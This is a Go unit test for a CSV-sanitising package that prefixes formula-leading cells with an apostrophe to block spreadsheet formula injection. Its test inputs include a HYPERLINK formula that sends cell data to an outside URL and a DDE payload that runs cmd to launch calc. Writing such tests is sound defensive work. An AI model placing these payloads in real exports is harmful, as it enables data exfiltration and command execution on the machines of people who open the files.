package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/crossrank/crossrank/web/csvsafe"
)

func TestCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("http://x?"&A1,"c")`, `'=HYPERLINK("http://x?"&A1,"c")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3`, `'-2+3`},
		{`@SUM(1)`, `'@SUM(1)`},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"", ""},
		{"Nova Cloud", "Nova Cloud"},
		{"a=b", "a=b"}, {"中文", "中文"},
		// Numbers stay numbers: the ones Crossrank writes are never negative.
		{"0", "0"}, {"10", "10"}, {"1000", "1000"},
	} {
		if got := csvsafe.Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriterGuardsEveryCell: what a spreadsheet reads back from the file
// starts with no formula character, and the caller's record is unchanged.
func TestWriterGuardsEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf, true)
	rec := []string{"1", "=1+1", "-2+3", "\tx", "ok"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Errorf("the caller's record changed: %q", rec)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"1", "'=1+1", "'-2+3", "'\tx", "ok"}
	if len(got) != 1 || len(got[0]) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		if got[0][i] != want[i] {
			t.Errorf("cell %d = %q, want %q", i, got[0][i], want[i])
		}
	}
}
